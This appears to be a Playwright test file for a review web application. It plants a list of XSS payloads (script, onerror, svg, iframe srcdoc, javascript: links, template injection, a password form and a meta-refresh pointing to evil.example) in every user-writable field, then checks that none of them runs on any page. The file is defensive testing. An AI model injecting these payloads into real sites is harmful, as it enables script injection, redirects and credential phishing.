"""Payloads in everything that somebody can write, on every page there is: nothing of it runs.

The pages are those that the application lists, so that a new one is opened too. What must not be there, if no
payload did anything, is looked for: dialogs, requests, markup, a global name.
"""

from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from playwright.async_api import Page, expect
from review_api.web.pages import PAGES

from .workplace import PASSWORD, Item, Reviewer, Workplace, apply

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.slow]

Open = Callable[..., Awaitable[Reviewer]]

PAYLOADS = [
    "<script>window.owned=1</script>",
    '<img src=x onerror="window.owned=1">',
    "<svg onload=window.owned=1><animate onbegin=window.owned=1></svg>",
    '"><iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "';window.owned=1;//",
    "javascript:window.owned=1",
    '[link](javascript:window.owned=1) ![x](x" onerror="window.owned=1)',
    "<a href='javascript:window.owned=1' style='position:fixed;inset:0'>all over</a>",
    "${window.owned=1}{{constructor.constructor('window.owned=1')()}}",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\u202e<b>evil</b>\u2066 \x1b[31m",
]
ALL = " ".join(PAYLOADS)
LOCATION = "https://evil.example"


async def write_everywhere(work: Workplace, admin: Any) -> None:
    """Put payloads into a project, its items, and all that a reviewer can say of a task."""
    labels = [
        {"name": f"<img src=x onerror=window.owned=1> {number}", "description": ALL} for number in range(2)
    ]
    await apply(
        work, {"title": PAYLOADS[1], "labels": labels, "guideline": "\n\n".join(["# " + ALL, *PAYLOADS])}
    )
    label = labels[0]["name"]
    items = [
        Item(f"i{number} {payload}", payload, label=label, confidence=0.5, metadata={"source": ALL})
        for number, payload in enumerate(PAYLOADS)
    ]
    await work.add(
        [*items, Item("accepted " + PAYLOADS[0], ALL, label=label, confidence=0.99, accepted=True)]
    )
    claimed = await admin.post(f"/v1/projects/{work.project}/tasks/claim", json={"count": 4})
    tasks = claimed.raise_for_status().json()["tasks"]
    for task, (what, body) in zip(
        tasks,
        [
            ("flag", {"reason": "other", "text": ALL}),
            ("comment", {"text": ALL}),
            ("edge-case", {"question": ALL[:500]}),
            ("skip", {"reason": ALL[:900]}),
        ],
        strict=True,
    ):
        path = f"/v1/tasks/{task['task_id']}/{what}"
        (await admin.post(path, json={"lease": task["lease"], **body})).raise_for_status()
    decision = {"lease": tasks[0]["lease"], "label": label}
    (await admin.post(f"/v1/tasks/{tasks[0]['task_id']}/decision", json=decision)).raise_for_status()


async def what_ran(page: Page) -> dict[str, Any]:
    found: dict[str, Any] = await page.evaluate(
        """() => ({
            owned: window.owned ?? null,
            markup: document.querySelectorAll(
                '#app iframe, #app script, #app base, #app meta, #app form[action], #app [onerror],'
                + ' #app [onload], #app a[href^="javascript:"], #app [style*="fixed"],'
                + ' #app img[src="x"]').length,
        })"""
    )
    return found


async def test_nothing_that_anybody_writes_runs_on_any_page(work: Workplace, open_page: Open) -> None:
    account = {"name": work.reviewer, "roles": ["reviewer", "manager", "admin"], "password": PASSWORD}
    (await work.admin.post("/v1/accounts", json=account)).raise_for_status()
    await write_everywhere(work, work.admin)
    reviewer = await open_page(viewport={"width": 1280, "height": 900})
    asked: list[str] = []
    reviewer.page.on("request", lambda request: asked.append(request.url))
    reviewer.page.on("dialog", lambda dialog: reviewer.complaints.append(dialog.message))
    await reviewer.sign_in(work)
    await expect(reviewer.page.locator(".task-text")).to_be_visible()
    for page in PAGES:
        await reviewer.page.goto(f"{reviewer.url}{page.path}?project={work.project}&item=i1 {PAYLOADS[1]}")
        await expect(reviewer.page.locator("#app")).not_to_be_empty()
        await reviewer.page.wait_for_load_state("networkidle")
        assert await what_ran(reviewer.page) == {"owned": None, "markup": 0}, page.path
    assert [url for url in asked if LOCATION in url and not url.startswith(reviewer.url)] == []
    assert reviewer.complaints == []


async def test_the_payloads_would_be_noticed(open_page: Open) -> None:
    reviewer = await open_page(bypass_csp=True)
    await reviewer.page.goto(reviewer.url)
    await reviewer.page.set_content(f"<div id=app><img src=x onerror='window.owned=1'>{PAYLOADS[3]}</div>")
    await reviewer.page.wait_for_function("window.owned === 1")
    assert (await what_ran(reviewer.page))["markup"] > 0
